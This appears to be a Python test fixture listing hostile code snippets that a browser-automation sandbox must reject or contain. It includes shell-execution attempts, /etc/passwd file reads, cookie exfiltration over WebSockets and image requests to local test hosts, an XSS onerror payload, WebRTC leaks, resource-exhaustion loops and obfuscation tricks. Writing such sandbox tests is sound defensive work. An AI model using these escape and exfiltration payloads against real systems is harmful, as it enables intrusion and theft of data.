"""Hostile skill code, by category, each with the outcome the sandbox must produce.

Placeholders: {PORT} another port on 127.0.0.1, {OTHER} a TCP port on 127.0.0.2, {UDP} a UDP
port on 127.0.0.2 (see `security_listeners`), {CANARY} a file that must never be written.
Outcomes: "rejected" by the policy before running; or it runs and ends with the given error
("containment", "timeout", "limit", "recursion", "value", or "stopped" = timeout or limit);
or "no effect" (it may return or
fail, it only must not reach anything). Every run is also judged for effects: no listener
reached, no canary file, finished within its timeout.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Snippet:
    category: str
    name: str
    code: str
    outcome: str

    @property
    def id(self) -> str:
        return f"{self.category}-{self.name}"


def probe(*lines: str, params: str = "") -> str:
    body = "\n".join("    " + line for line in lines)
    return f"async def probe(page{params}):\n{body}\n"


def whole(code: str) -> str:
    return code.strip("\n") + "\n"


R, C, T, L, N = "rejected", "containment", "timeout", "limit", "no effect"
S = "stopped"  # timeout or limit, whichever the machine reaches first

SNIPPETS: list[Snippet] = [
    # imports ----------------------------------------------------------------------------
    Snippet("imports", "import-os", probe("import os", "os.system('touch {CANARY}')"), R),
    Snippet("imports", "from-import", probe("from os import system"), R),
    Snippet("imports", "dunder-import", probe("__import__('os').system('id')"), R),
    Snippet("imports", "importlib", probe("importlib.import_module('os')"), R),
    Snippet("imports", "module-level", whole("import os\nasync def probe(page):\n    pass"), R),
    Snippet("imports", "import-as", probe("import subprocess as sp", "sp.run(['id'])"), R),
    Snippet("imports", "sys-modules", probe("return sys.modules['os']"), R),
    # builtins ---------------------------------------------------------------------------
    Snippet("builtins", "open-write", probe("open('{CANARY}', 'w').write('x')"), R),
    Snippet("builtins", "eval", probe("return eval('1 + 1')"), R),
    Snippet("builtins", "exec", probe("exec('x = 1')"), R),
    Snippet("builtins", "compile", probe("return compile('1', 'f', 'eval')"), R),
    Snippet("builtins", "getattr", probe("return getattr(page, 'evaluate')"), R),
    Snippet("builtins", "globals", probe("return globals()"), R),
    Snippet("builtins", "vars", probe("return vars(page)"), R),
    Snippet("builtins", "type", probe("return type(page)"), R),
    Snippet("builtins", "breakpoint", probe("breakpoint()"), R),
    Snippet("builtins", "setattr", probe("setattr(page, 'goto', None)"), R),
    Snippet("builtins", "object", probe("return object.__subclasses__()"), R),
    Snippet("builtins", "dir", probe("return dir(page)"), R),
    Snippet("builtins", "print-open", probe("print(open)"), R),
    Snippet("builtins", "input", probe("return input()"), R),
    # dunders ----------------------------------------------------------------------------
    Snippet("dunders", "class", probe("return page.__class__"), R),
    Snippet("dunders", "dict", probe("return page.__dict__"), R),
    Snippet("dunders", "code", probe("f = lambda: 0", "return f.__code__"), R),
    Snippet("dunders", "subclasses", probe("return ().__class__.__base__.__subclasses__()"), R),
    Snippet("dunders", "globals-of-method", probe("return page.goto.__globals__"), R),
    Snippet("dunders", "string-dunder", probe("return '__class__'"), R),
    Snippet("dunders", "private", probe("return page._impl_obj"), R),
    Snippet("dunders", "keyword-dunder", probe("return dict(__builtins__=1)"), R),
    Snippet("dunders", "frame", probe("c = probe(page)", "return c.cr_frame.f_globals"), R),
    Snippet("dunders", "builtins-name", probe("return __builtins__"), R),
    # file access ------------------------------------------------------------------------
    Snippet("files", "goto-file-literal", probe("await page.goto('file:///etc/passwd')"), R),
    Snippet("files", "goto-file-built", probe("await page.goto('fi' + 'le:///etc/passwd')"), C),
    Snippet("files", "goto-file-upper", probe("await page.goto('FI' + 'LE:{CANARY}')"), C),
    Snippet("files", "screenshot", probe("await page.screenshot(path='{CANARY}')"), R),
    Snippet("files", "pdf", probe("await page.pdf(path='{CANARY}')"), R),
    Snippet(
        "files",
        "set-input-files",
        probe("await page.locator('input').set_input_files('/etc/passwd')"),
        R,
    ),
    Snippet(
        "files",
        "download-save-as",
        probe("d = await page.wait_for_event('download')", "await d.save_as('{CANARY}')"),
        R,
    ),
    Snippet("files", "tracing", probe("await page.context.tracing.stop(path='{CANARY}')"), R),
    Snippet("files", "video", probe("return await page.video.path()"), R),
    # browser escapes --------------------------------------------------------------------
    Snippet("browser", "evaluate", probe("return await page.evaluate('document.cookie')"), R),
    Snippet(
        "browser", "locator-evaluate", probe("await page.locator('body').evaluate('e => 1')"), R
    ),
    Snippet("browser", "init-script", probe("await page.add_init_script('1')"), R),
    Snippet("browser", "route", probe("await page.route('**', lambda r: r.continue_())"), R),
    Snippet("browser", "api-request", probe("await page.request.get('/')"), R),
    Snippet("browser", "new-page", probe("await page.context.new_page()"), R),
    Snippet("browser", "expose", probe("await page.expose_function('f', lambda: 1)"), R),
    Snippet("browser", "set-content", probe("await page.set_content('<script>1</script>')"), R),
    Snippet("browser", "script-tag", probe("await page.add_script_tag(content='1')"), R),
    Snippet("browser", "wait-function", probe("await page.wait_for_function('1')"), R),
    Snippet("browser", "frame-evaluate", probe("await page.main_frame.evaluate('1')"), R),
    Snippet("browser", "route-ws", probe("await page.route_web_socket('**', lambda w: 0)"), R),
    Snippet("browser", "headers", probe("await page.set_extra_http_headers({'a': 'b'})"), R),
    Snippet("browser", "goto-alias", probe("go = page.goto", "await go('javascript:1')"), R),
    Snippet("browser", "goto-in-list", probe("await [page.goto][0]('/' + '/x')"), R),
    Snippet("browser", "frame-goto-literal", probe("await page.frames[0].goto('javascript:1')"), R),
    Snippet("browser", "absolute-literal", probe("await page.goto('http://127.0.0.1:{PORT}/')"), R),
    # runtime-built URLs -----------------------------------------------------------------
    Snippet("urls", "javascript-concat", probe("await page.goto('java' + 'script:1')"), C),
    Snippet(
        "urls",
        "data-concat",
        probe("await page.goto('da' + 'ta:text/html,<p>x</p>')"),
        C,
    ),
    Snippet(
        "urls", "backslash-host", probe("await page.goto('/' + '\\\\' + '127.0.0.2:{OTHER}/x')"), C
    ),
    Snippet(
        "urls", "double-backslash", probe("await page.goto('\\\\' + '\\\\127.0.0.1:{PORT}/')"), C
    ),
    Snippet(
        "urls",
        "joined-chars",
        probe("await page.goto(''.join(['j', 'a', 'v', 'a', 's', 'c', 'r', 'i', 'p', 't', ':1']))"),
        C,
    ),
    Snippet("urls", "tab-slashes", probe("await page.goto('\\t' + '//127.0.0.2:{OTHER}/')"), C),
    Snippet("urls", "tab-between", probe("await page.goto('/' + '\\t/127.0.0.2:{OTHER}/')"), C),
    Snippet("urls", "newline-scheme", probe("await page.goto('java' + '\\nscript:1')"), C),
    Snippet("urls", "leading-space", probe("await page.goto(' java' + 'script:1')"), C),
    Snippet("urls", "http-built", probe("await page.goto('ht' + 'tp://127.0.0.2:{OTHER}/')"), C),
    Snippet(
        "urls",
        "fstring-scheme",
        probe("s = 'http'", "await page.goto(f'{s}://127.0.0.1:{PORT}/')"),
        C,
    ),
    Snippet("urls", "keyword-url", probe("await page.goto(url='java' + 'script:1')"), C),
    Snippet("urls", "main-frame", probe("await page.main_frame.goto('java' + 'script:1')"), C),
    Snippet("urls", "starred", probe("await page.goto(*['java' + 'script:1'])"), C),
    Snippet("urls", "blob", probe("await page.goto('bl' + 'ob:http://127.0.0.1:{PORT}/x')"), C),
    Snippet("urls", "view-source", probe("await page.goto('view-' + 'source:/')"), C),
    Snippet("urls", "not-a-string", probe("await page.goto(['/'])"), C),
    Snippet("urls", "protocol-relative", probe("await page.goto('/' + '/127.0.0.2:{OTHER}/')"), C),
    Snippet("urls", "subscript", probe("await page.goto(('/', 'java' + 'script:1')[1])"), C),
    Snippet("urls", "walrus", probe("await page.goto(u := 'java' + 'script:1')"), C),
    Snippet("urls", "upper-case", probe("await page.goto('JAVA' + 'SCRIPT:1')"), C),
    # JavaScript exfiltration ------------------------------------------------------------
    Snippet(
        "js",
        "cookie-to-websocket",
        probe(
            "await page.goto('java' + \"script:new WebSocket('ws://127.0.0.2:{OTHER}/' + "
            'document.cookie)")'
        ),
        C,
    ),
    Snippet(
        "js",
        "title-by-image",
        probe(
            "await page.goto('java' + \"script:new Image().src='http://127.0.0.1:{PORT}/'"
            '+document.title")'
        ),
        C,
    ),
    Snippet(
        "js",
        "data-page-fetch",
        probe(
            "await page.goto('da' + 'ta:text/html,<script>fetch(\"http://127.0.0.2:{OTHER}/\")"
            "</script>')"
        ),
        C,
    ),
    Snippet(
        "js",
        "search-box-script",
        probe(
            "await page.goto('/')",
            "box = page.get_by_role('searchbox', name='Search products')",
            'await box.fill("<img src=x onerror=\\"new Image().src=\'//127.0.0.2:{OTHER}\'\\">")',
            "await page.get_by_role('button', name='Search').click()",
            "await page.wait_for_load_state()",
        ),
        N,
    ),
    Snippet(
        "js",
        "selector-engine",
        probe("return await page.locator('js=fetch(\"http://127.0.0.2:{OTHER}\")').count()"),
        N,
    ),
    # WebSocket / WebRTC -----------------------------------------------------------------
    Snippet(
        "sockets",
        "websocket-data-page",
        probe(
            "await page.goto('da' + \"ta:text/html,<script>new WebSocket('ws://127.0.0.2:{OTHER}')"
            '</script>")'
        ),
        C,
    ),
    Snippet(
        "sockets",
        "websocket-other-port",
        probe("await page.goto('java' + \"script:new WebSocket('ws://127.0.0.1:{PORT}')\")"),
        C,
    ),
    Snippet(
        "sockets",
        "webrtc-stun",
        probe(
            "await page.goto('java' + \"script:(async()=>{const p=new RTCPeerConnection("
            "{iceServers:[{urls:'stun:127.0.0.2:{UDP}'}]});p.createDataChannel('x');"
            'await p.setLocalDescription(await p.createOffer())})()")'
        ),
        C,
    ),
    Snippet(
        "sockets",
        "webrtc-in-data-page",
        probe(
            "await page.goto('da' + \"ta:text/html,<script>const p=new RTCPeerConnection("
            "{iceServers:[{urls:'stun:127.0.0.2:{UDP}'}]});p.createDataChannel('x');"
            'p.createOffer().then(o=>p.setLocalDescription(o))</script>")'
        ),
        C,
    ),
    # resource exhaustion ----------------------------------------------------------------
    Snippet("resources", "spin", probe("while True:", "    pass"), T),
    Snippet("resources", "spin-await", probe("while True:", "    await page.title()"), T),
    Snippet("resources", "huge-power", probe("return 10 ** 10 ** 10"), L),
    Snippet("resources", "huge-repeat", probe("return len('a' * 10 ** 10)"), L),
    Snippet("resources", "huge-list", probe("return len([0] * 10 ** 10)"), L),
    Snippet("resources", "huge-shift", probe("return 1 << 10 ** 10"), L),
    Snippet("resources", "squaring", probe("x = 2", "while True:", "    x = x * x"), L),
    Snippet("resources", "aug-squaring", probe("x = 3", "while True:", "    x *= x"), L),
    Snippet("resources", "doubling", probe("s = 'ab'", "for _ in range(100):", "    s = s + s"), L),
    Snippet(
        "resources", "aug-doubling", probe("s = ['a']", "for _ in range(100):", "    s += s"), L
    ),
    Snippet(
        "resources",
        "item-doubling",
        probe("d = {'k': 'ab'}", "for _ in range(100):", "    d['k'] += d['k']"),
        L,
    ),
    Snippet(
        "resources",
        "nested-comprehension",
        probe("return len([x for x in range(10 ** 6) for y in range(10 ** 6)])"),
        S,
    ),
    Snippet("resources", "huge-range-sum", probe("return sum(range(10 ** 12))"), L),
    Snippet("resources", "ljust", probe("return 'x'.ljust(10 ** 10)"), L),
    Snippet("resources", "join", probe("return ','.join(['a' * 10 ** 6] * 100)"), L),
    Snippet("resources", "replace", probe("return ('a' * 10 ** 6).replace('', 'b' * 100)"), L),
    Snippet("resources", "extend", probe("x = [1]", "for _ in range(64):", "    x.extend(x)"), L),
    Snippet("resources", "round", probe("return round(5, -10 ** 9)"), L),
    Snippet("resources", "percent-format", probe("return '%1000000000d' % 1"), L),
    Snippet("resources", "dynamic-format-spec", probe("n = 10 ** 9", "return f'{1:>{n}}'"), R),
    Snippet("resources", "wide-format-spec", probe("return f'{1:>1000000000}'"), R),
    Snippet(
        "resources",
        "sorted-key-spin",
        probe("return sorted(range(10 ** 6), key=lambda x: sorted(range(10 ** 6)))"),
        T,
    ),
    Snippet("resources", "append-forever", probe("x = []", "while True:", "    x.append(x)"), S),
    Snippet(
        "resources",
        "aliased-repeat",
        probe("a = [0] * 10 ** 6", "return [a] * 10 ** 6 == [list(a)] * 10 ** 6"),
        L,
    ),
    Snippet("resources", "recursion", probe("await probe(page)"), "recursion"),
    Snippet("resources", "int-to-huge-str", probe("return str(10 ** 100000)"), "value"),
    Snippet(
        "resources",
        "hang-in-finally",
        probe(
            "try:",
            "    await page.get_by_role('button', name='none').click(timeout=60000)",
            "finally:",
            "    await page.get_by_role('button', name='none').click(timeout=60000)",
        ),
        T,
    ),
    Snippet(
        "resources",
        "continue-in-finally",
        probe(
            "while True:",
            "    try:",
            "        await page.title()",
            "    finally:",
            "        continue",
        ),
        R,
    ),
    Snippet(
        "resources",
        "continue-in-except",
        probe(
            "while True:",
            "    try:",
            "        await page.title()",
            "    except Exception:",
            "        continue",
            "        raise",
        ),
        R,
    ),
    Snippet(
        "resources",
        "return-in-finally",
        probe("try:", "    while True:", "        pass", "finally:", "    return 1"),
        R,
    ),
    Snippet(
        "resources",
        "regex-selector",
        probe("return await page.locator('text=/(a+)+$/').count()"),
        N,
    ),
    # obfuscation ------------------------------------------------------------------------
    Snippet("obfuscation", "nfkc-eval", probe("return \uff45\uff56\uff41\uff4c('1')"), R),
    Snippet("obfuscation", "lambda-default", probe("f = (lambda g=getattr: g)", "return f()"), R),
    Snippet("obfuscation", "unicode-escape-url", probe("await page.goto('\\u006aavascript:1')"), R),
    Snippet("obfuscation", "mixed-case-literal", probe("await page.goto('JaVaScRiPt:1')"), R),
    Snippet("obfuscation", "implicit-concat", probe("await page.goto('java' 'script:1')"), R),
    Snippet("obfuscation", "bytes", probe("return b'\\x00'"), R),
    Snippet("obfuscation", "format-attr", probe("return '{0.__class__}'.format(page)"), R),
    Snippet("obfuscation", "dunder-built", probe("n = '__cl' + 'ass__'", "return n"), N),
    Snippet(
        "obfuscation", "decorator", whole("@staticmethod\nasync def probe(page):\n    pass"), R
    ),
    Snippet("obfuscation", "class", probe("class X:", "    pass"), R),
    Snippet("obfuscation", "nested-def", probe("def f():", "    return 1"), R),
    Snippet("obfuscation", "global", probe("global page2"), R),
    Snippet("obfuscation", "async-with", probe("async with page:", "    pass"), R),
    Snippet("obfuscation", "yield", probe("yield 1"), R),
    Snippet("obfuscation", "match", probe("match page:", "    case _:", "        pass"), R),
    Snippet("obfuscation", "del", probe("x = 1", "del x"), R),
    Snippet(
        "obfuscation", "swallow", probe("try:", "    pass", "except Exception:", "    pass"), R
    ),
    Snippet(
        "obfuscation",
        "goto-aliased-frame",
        probe("f = page.main_frame", "await f.goto('ja' + 'vascript:1')"),
        C,
    ),
    # name shadowing ---------------------------------------------------------------------
    *[
        Snippet("names", name, f"async def {name}(page):\n    return 1\n", R)
        for name in ("len", "str", "sorted", "expect", "Page", "print", "annotations", "match")
    ],
]
